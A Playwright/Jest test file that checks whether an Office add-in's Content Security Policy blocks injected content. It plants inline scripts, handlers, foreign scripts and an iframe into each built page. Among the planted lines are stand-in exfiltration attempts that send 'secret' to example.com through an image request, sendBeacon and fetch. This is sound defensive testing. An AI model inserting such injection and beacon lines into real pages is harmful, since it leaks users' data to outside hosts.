import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { launch } from '../../scripts/browser/launch';
import { serveFolder } from '../../scripts/serve-folder';

/** The pages of the production build, as the server of the add-in hands them out. */
const PAGES = ['taskpane.html', 'workbench.html', 'help/index.html', 'help/index-zh-CN.html'];
const OFFICE = 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js';

jest.setTimeout(120_000);
let browser: Browser;
let server: Server;
let host: string;

beforeAll(async () => {
  browser = await launch();
  server = createServer(serveFolder('dist')).listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  host = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser?.close();
  server?.close();
});

declare global {
  interface Window {
    violations: string[];
    planted: string[];
  }
}

/**
 * Opens a page into whose HTML somebody has planted a script, a handler, a script file of another host and one of the
 * page's own host that tries what the policy forbids.
 */
async function openPlanted(name: string): Promise<{ page: Page; asked: string[] }> {
  const page = await browser.newPage();
  const asked: string[] = [];
  await page.addInitScript(() => {
    window.planted = [];
    window.violations = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      window.violations.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  await page.route('**/*', async (route) => {
    const address = route.request().url();
    asked.push(address);
    if (address === OFFICE) return route.fulfill({ contentType: 'text/javascript', body: 'planted.push("office")' });
    if (address === `${host}/${name}`) {
      const answer = await route.fetch();
      const planted = `<script>planted.push('inline')</script><img src="data:," onerror="planted.push('handler')">
        <script src="https://example.com/foreign.js"></script><script src="/own.js"></script>
        <iframe src="https://example.com/frame"></iframe>`;
      return route.fulfill({ response: answer, body: (await answer.text()).replace('</body>', `${planted}</body>`) });
    }
    if (address === `${host}/own.js`)
      return route.fulfill({
        contentType: 'text/javascript',
        body: `planted.push('own');
          try { eval("planted.push('eval')"); } catch { }
          try { new Function("planted.push('function')")(); } catch { }
          new Image().src = 'https://example.com/picture.png?secret';
          navigator.sendBeacon('https://example.com/beacon', 'secret');
          fetch('https://example.com/fetch').catch(() => {}).then(() => planted.push('done'));`,
      });
    return route.continue();
  });
  await page.goto(`${host}/${name}`, { waitUntil: 'load' });
  return { page, asked };
}

test.each(PAGES)('%s runs no planted script and asks no other machine', async (name) => {
  const { page, asked } = await openPlanted(name);
  const isHelp = name.startsWith('help/');
  if (!isHelp) await page.waitForFunction(() => window.planted.includes('done'));
  const planted = await page.evaluate(() => window.planted);
  expect(planted).toEqual([...(name === 'taskpane.html' ? ['office'] : []), ...(isHelp ? [] : ['own', 'done'])]);
  expect(asked.filter((address) => !address.startsWith(host) && !address.startsWith('data:'))).toEqual(
    name === 'taskpane.html' ? [OFFICE] : [],
  );
  const violations = await page.evaluate(() => window.violations);
  // The planted things were refused by the policy, not by chance.
  const expected = isHelp
    ? ['script-src-elem', 'script-src-attr', 'frame-src']
    : ['script-src-elem', 'script-src', 'img-src', 'connect-src', 'frame-src'];
  for (const directive of expected) expect(violations.some((one) => one.startsWith(`${directive} `))).toBe(true);
  await page.close();
});
